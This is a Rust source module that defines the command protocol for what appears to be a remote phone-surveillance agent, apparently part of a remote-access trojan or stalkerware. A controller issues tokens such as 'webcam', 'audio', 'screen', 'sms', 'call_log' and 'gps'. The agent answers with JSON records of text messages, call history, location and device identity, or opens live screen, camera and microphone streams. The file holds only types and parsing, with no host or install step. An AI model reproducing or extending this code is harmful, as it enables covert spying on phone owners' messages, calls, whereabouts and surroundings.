//! Protocol types for the controller channel.
//!
//! The controller sends single-word commands; the agent answers data
//! commands with a JSON record (or a JSON array of records) and answers
//! nothing else. Streaming commands open their own connection.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// Text sent in place of a location record when there is no fix.
pub const GPS_UNAVAILABLE: &str = "GPS data not available.";

/// The closed command vocabulary. Tokens are case-sensitive.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Command {
    Screen,
    Webcam,
    Audio,
    Sms,
    CallLog,
    DeviceInfo,
    Battery,
    Gps,
    Exit,
}

/// Which streaming session a command starts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum StreamKind {
    Screen,
    Camera,
    Audio,
}

impl fmt::Display for StreamKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Screen => "screen",
            Self::Camera => "camera",
            Self::Audio => "audio",
        })
    }
}

/// A received token that is not in the vocabulary.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("unknown command: {0:?}")]
pub struct UnknownCommand(pub String);

impl Command {
    /// Every command, in table order.
    pub const ALL: [Self; 9] = [
        Self::Screen,
        Self::Webcam,
        Self::Audio,
        Self::Sms,
        Self::CallLog,
        Self::DeviceInfo,
        Self::Battery,
        Self::Gps,
        Self::Exit,
    ];

    /// The wire token for this command.
    #[must_use]
    pub const fn token(self) -> &'static str {
        match self {
            Self::Screen => "screen",
            Self::Webcam => "webcam",
            Self::Audio => "audio",
            Self::Sms => "sms",
            Self::CallLog => "call_log",
            Self::DeviceInfo => "device_info",
            Self::Battery => "battery",
            Self::Gps => "gps",
            Self::Exit => "exit",
        }
    }

    /// The streaming session this command hands control to, if any.
    #[must_use]
    pub const fn stream_kind(self) -> Option<StreamKind> {
        match self {
            Self::Screen => Some(StreamKind::Screen),
            Self::Webcam => Some(StreamKind::Camera),
            Self::Audio => Some(StreamKind::Audio),
            _ => None,
        }
    }

    #[must_use]
    pub const fn is_streaming(self) -> bool {
        self.stream_kind().is_some()
    }

    /// Decode one received frame.
    ///
    /// Surrounding whitespace is trimmed. Frames that are not UTF-8 are
    /// reported as unknown with their bytes hex-encoded.
    pub fn from_frame(frame: &[u8]) -> Result<Self, UnknownCommand> {
        match std::str::from_utf8(frame) {
            Ok(text) => text.parse(),
            Err(_) => Err(UnknownCommand(format!("0x{}", hex::encode(frame)))),
        }
    }
}

impl FromStr for Command {
    type Err = UnknownCommand;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let token = s.trim();
        Self::ALL
            .into_iter()
            .find(|cmd| cmd.token() == token)
            .ok_or_else(|| UnknownCommand(token.to_string()))
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.token())
    }
}

/// Identity of the device the agent runs on.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeviceInfo {
    pub model: String,
    pub manufacturer: String,
    pub os_version: String,
    pub device_id: Option<String>,
    pub network_operator: Option<String>,
}

/// Battery charge, in percent.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct BatteryStatus {
    pub level: u8,
}

/// A last-known position fix.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct Location {
    pub latitude: f64,
    pub longitude: f64,
}

impl Location {
    /// JSON has no NaN or infinity; such a fix would encode as `null`.
    #[must_use]
    pub const fn is_finite(&self) -> bool {
        self.latitude.is_finite() && self.longitude.is_finite()
    }
}

/// One entry of the message log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MessageRecord {
    pub sender: String,
    pub body: String,
    /// Unix timestamp in milliseconds.
    pub timestamp: i64,
}

/// Direction or outcome of a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum CallKind {
    Incoming,
    Outgoing,
    Missed,
    Rejected,
    Blocked,
    Voicemail,
}

/// One entry of the call log.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CallRecord {
    pub number: String,
    #[serde(rename = "type")]
    pub kind: CallKind,
    /// Unix timestamp in milliseconds.
    pub timestamp: i64,
    /// Call length in seconds.
    pub duration: u64,
}

/// Sent back when a data handler fails under the report policy.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ErrorPayload {
    pub error: String,
    pub command: String,
}

/// A response ready to be written to the channel.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reply {
    /// Serialized JSON record or array of records.
    Json(Vec<u8>),
    /// Plain text.
    Text(String),
}

impl Reply {
    /// Serialize a record or a sequence of records.
    pub fn json<T: Serialize + ?Sized>(value: &T) -> Result<Self, serde_json::Error> {
        serde_json::to_vec(value).map(Self::Json)
    }

    /// Diagnostic payload for a failed handler.
    pub fn error(command: Command, message: impl Into<String>) -> Result<Self, serde_json::Error> {
        Self::json(&ErrorPayload {
            error: message.into(),
            command: command.token().to_string(),
        })
    }

    /// The exact bytes to send.
    #[must_use]
    pub fn as_bytes(&self) -> &[u8] {
        match self {
            Self::Json(bytes) => bytes.as_slice(),
            Self::Text(text) => text.as_bytes(),
        }
    }
}
